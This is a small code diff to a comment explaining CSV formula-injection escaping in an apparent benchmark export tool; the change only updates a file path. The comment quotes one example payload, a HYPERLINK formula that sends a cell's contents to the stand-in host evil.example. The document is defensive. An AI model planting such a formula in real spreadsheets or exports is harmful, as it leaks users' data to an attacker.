@@ -3,8 +3,8 @@
  * carriage return is a formula to Excel, LibreOffice and Google Sheets, and a tag value or a
  * dashboard title can be anything (`=HYPERLINK("https://evil.example/?"&A1, "click")`): such a
  * cell is written with a leading `'`, which shows it as text (OWASP's advice on CSV
- * injection). Plain numbers (`-1.5`, `-2e-7`) are left as they are. `bench/vigil_bench/report.py`
- * writes the same.
+ * injection). Plain numbers (`-1.5`, `-2e-7`) are left as they are. The backend's benchmark
+ * export (`backend/app/benchmark_report.py`, also `vigil-bench export`) writes the same.
  */
 const FORMULA_START = /^[=+\-@\t\r]/;
 const NUMBER = /^[+-]?(?:(?:\d+\.?\d*|\.\d+)(?:[eE][+-]?\d+)?|inf|nan|Infinity|NaN)$/;
